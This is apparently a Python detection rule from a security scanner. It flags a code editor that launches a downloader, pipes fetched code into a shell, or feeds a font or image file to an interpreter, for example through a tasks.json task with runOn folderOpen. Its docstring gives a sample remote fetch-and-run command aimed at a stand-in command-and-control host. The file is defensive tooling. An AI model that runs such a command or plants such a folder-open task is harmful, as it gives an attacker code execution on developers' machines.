"""An editor starts something that downloads and runs.

What it sees
    Below an editor, without a terminal in which somebody types, a shell fetched something and ran it, a
    downloader ran, or an interpreter was given a file that is no program text (a font, a picture).

Why it matters
    Opening a folder is enough for it: a task with runOn folderOpen needs no further click in a trusted folder.

Example
    code -> sh -c 'curl -s https://c2.test/x | sh'

What to do
    Close the editor; read .vscode/tasks.json and the extensions that were added last.

False alarms
    Extensions that install their own server by a shell.

References
    ATT&CK T1204.002, T1059.004.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.behaviour import Behaviour
from lazaretto.detect.live.toolchains import is_interpreter
from lazaretto.detect.programs import DOWNLOADERS, PIPED, SHELLS, code_of, command, name_of, script
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.behaviour import Program
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_

_NO_TEXT = re.compile(r"\.(?:woff2?|ttf|otf|eot|svg|png|jpe?g|gif|ico|webp|css|map|dat|bin|wasm|txt|pdf|mp[34]|lock)")


def check(behaviour: Behaviour) -> Iterator[Match]:
    """One match for each such program."""
    for index, program in behaviour.own:
        chain = behaviour.record.chain(index)
        editor = next((at for at in range(len(chain) - 1, -1, -1) if chain[at].tool == "editor"), -1)
        if editor < 0 or program.tool == "editor":
            continue
        between = chain[editor + 1 :]
        if any(name_of(one) in SHELLS and not code_of(one) and not script(one) for one in between):
            continue  # a terminal
        if _is_bad(program):
            yield Match(
                N_("an editor started {command}"),
                path=behaviour.record.project,
                params={"command": command(program), "who": behaviour.doer(index)},
                excerpt=" ".join(program.argv),
                process=index,
            )


def _is_bad(program: Program) -> bool:
    name = name_of(program)
    if name in DOWNLOADERS or (name in SHELLS and PIPED.search(code_of(program)[:4000])):
        return True
    return is_interpreter(program.path) and bool(_NO_TEXT.fullmatch("." + script(program).rpartition(".")[2].lower()))


RULE = Rule(
    id="run/editor-runs-download",
    title=N_("An editor starts something that downloads and runs"),
    view=Behaviour,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    phase=Phase.OPEN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1204.002", "T1059.004"),
    state="experimental",
)
